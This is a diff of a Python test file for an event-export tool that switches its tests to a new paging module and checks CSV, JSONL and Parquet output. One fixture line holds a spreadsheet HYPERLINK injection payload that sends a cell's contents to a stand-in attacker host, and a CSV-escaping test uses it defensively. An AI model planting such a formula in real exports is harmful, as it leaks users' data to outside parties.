@@ -30,7 +30,7 @@ from eventledger.extract.codebook import load_codebook
 from eventledger.pipeline import Ingestor
 from eventledger.report import exports
 from eventledger.report.formats import EVENT_CSV_COLUMNS
-from eventledger.store import queries
+from eventledger.store import queries, scan
 from eventledger.store.db import Store
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -85,7 +85,7 @@ def _meta(conn: Any, flt: queries.EventFilter) -> exports.ExportMeta:
 def _export(conn: Any, fmt: str, flt: queries.EventFilter | None = None) -> tuple[bytes, exports.ExportCount]:
     flt = flt or queries.EventFilter()
     buf = io.BytesIO()
-    count = exports.write_export(fmt, queries.iter_events_keyset(conn, flt), _meta(conn, flt), buf)
+    count = exports.write_live(conn, fmt, flt, _meta(conn, flt), buf)
     return buf.getvalue(), count
 
 
@@ -112,33 +112,55 @@ def _jsonl_ids(db: Path, *filters: str) -> list[int]:
     return [json.loads(line)["id"] for line in res.stdout.splitlines()]
 
 
-# --- keyset reading ------------------------------------------------------------------------------------------
+# --- reading the store ------------------------------------------------------------------------------------------
+FILTERS = (
+    queries.EventFilter(),
+    queries.EventFilter(category="propaganda"),
+    queries.EventFilter(country="IR", claim_status="claimed"),
+    queries.EventFilter(outlet="Wire"),
+)
+
+
 @pytest.mark.parametrize("page", [1, 7, 5000])
-def test_keyset_pages_give_the_events_of_list_events_in_the_same_order(conn, page):
-    for flt in (queries.EventFilter(), queries.EventFilter(category="propaganda"),
-                queries.EventFilter(country="IR", claim_status="claimed")):  # fmt: skip
-        assert list(queries.iter_events_keyset(conn, flt, page=page)) == list(queries.iter_events(conn, flt))
+def test_pages_give_the_events_of_list_events_in_id_order(conn, page):
+    for flt in FILTERS:
+        expected = sorted(queries.iter_events(conn, flt), key=lambda e: e["id"])
+        assert list(scan.iter_events(conn, flt, size=page)) == expected
 
 
-def test_keyset_pages_never_use_offset(conn):
-    seen: list[tuple[str, Any]] = []
+def test_pages_start_at_their_key_never_at_an_offset(conn):
+    seen: list[str] = []
 
-    def note(_conn: Any, _cursor: Any, statement: str, params: Any, *_: Any) -> None:
+    def note(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
         if "FROM events" in statement:
-            seen.append((statement, params))
+            seen.append(statement)
 
     engine = conn.engine
     event.listen(engine, "before_cursor_execute", note)
     try:
-        n = sum(1 for _ in queries.iter_events_keyset(conn, queries.EventFilter(), page=50))
+        n = sum(len(p.events) for p in scan.pages(conn, queries.EventFilter(), size=50))
     finally:
         event.remove(engine, "before_cursor_execute", note)
     assert n == _total(conn)
-    pages = [(s, p) for s, p in seen if "LIMIT" in s]
-    assert len(pages) == math.ceil(n / 50)
-    # SQLite's dialect always writes "LIMIT ? OFFSET ?": every page's offset is 0, it starts at its key
-    assert all(s.rstrip().endswith("OFFSET ?") and p[-1] == 0 for s, p in pages)
-    assert all("events.date <= ?" in s for s, _ in pages[1:])
+    assert len(seen) == math.ceil(n / 50) + (n % 50 == 0)  # the last read finds nothing when n is a multiple
+    assert all("events.id > ?" in s and s.rstrip().endswith("OFFSET ?") for s in seen)
+
+
+@pytest.mark.parametrize("page", [3, 5000])
+def test_parquet_from_pages_is_the_parquet_of_the_events(conn, page, monkeypatch):
+    """The column-by-column Parquet of the live store is the file written from event dicts."""
+    monkeypatch.setattr(exports, "PARQUET_ROW_GROUP", 10)
+    for flt in FILTERS:
+        meta = _meta(conn, flt)
+        a, b = io.BytesIO(), io.BytesIO()
+        count_a = exports.write_export("parquet", scan.iter_events(conn, flt), meta, a)
+        count_b = exports.ExportCount()
+        for chunk in exports.parquet_page_chunks(scan.pages(conn, flt, size=page), meta, count_b):
+            b.write(chunk)
+        assert count_a == count_b
+        ta, tb = pq.read_table(io.BytesIO(a.getvalue())), pq.read_table(io.BytesIO(b.getvalue()))
+        assert ta.equals(tb) and ta.schema.equals(tb.schema, check_metadata=True)
+        assert ta.num_rows == _total(conn, flt)
 
 
 # --- CSV and JSONL ---------------------------------------------------------------------------------------------
@@ -151,10 +173,11 @@ def test_csv_has_the_columns_of_events_csv_and_escapes_formulas(conn):
     assert "'" + FORMULA in outlets and not any(r["source_outlets"].startswith("=") for r in rows)
 
 
-def test_jsonl_is_byte_for_byte_the_events_command(export_db, conn):
+def test_jsonl_has_the_lines_of_the_events_command_in_id_order(export_db, conn):
     data, _ = _export(conn, "jsonl", queries.EventFilter(category="violence"))
     res = _run(export_db, "events", "--category", "violence", "--format", "jsonl")
-    assert data.decode("utf-8") == res.stdout
+    lines = data.decode("utf-8").splitlines()
+    assert lines == sorted(res.stdout.splitlines(), key=lambda line: json.loads(line)["id"])
 
 
 # --- ACLED CSV -------------------------------------------------------------------------------------------------
@@ -353,7 +376,7 @@ def test_a_filter_gives_the_ids_of_the_events_command(export_db, tmp_path, fmt):
     else:
         rows = _sheets(out)["events"]
         ids = [r[0] for r in rows[1:]]
-    assert ids == expected
+    assert ids == sorted(expected)  # exports list events in id order, as releases do
     if fmt in ("geojson", "acled-csv"):
         assert "0 of them have no coordinates" in res.stderr
 
@@ -378,7 +401,7 @@ def test_a_failed_write_leaves_no_file(export_db, tmp_path, monkeypatch):
     def broken(*_: Any) -> Any:
         raise RuntimeError("disk on fire")
 
-    monkeypatch.setattr(exports, "write_export", broken)
+    monkeypatch.setattr(exports, "write_live", broken)
     out = tmp_path / "x.csv"
     with pytest.raises(RuntimeError):
         _run(export_db, "export", "--format", "csv", "--out", str(out))
